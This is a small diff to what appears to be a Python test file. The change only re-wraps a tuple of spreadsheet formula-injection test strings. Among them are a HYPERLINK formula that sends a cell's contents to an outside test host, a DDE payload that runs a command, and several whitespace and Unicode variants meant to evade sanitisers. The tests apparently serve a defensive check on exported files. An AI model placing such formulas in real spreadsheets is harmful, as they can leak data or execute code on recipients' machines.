@@ -22,7 +22,8 @@ from served import Server, serving
 CHROMIUM = "/usr/bin/chromium"
 FORMULAS = (
     '=HYPERLINK("http://other.test/"&A1,"x")', "=cmd|'/c calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
-    "\t=1+1", "\r=1+1", " \n=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", '"=1+1', "';=1+1", ";=1+1", "＝1+1",
+    "\t=1+1", "\r=1+1", " \n=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1",
+    '"=1+1', "';=1+1", ";=1+1", "＝1+1",
 )  # fmt: skip
 TEXTS = {
     "agency": ("unit",), "report": ("title", "unit", "file", "url", "published"),
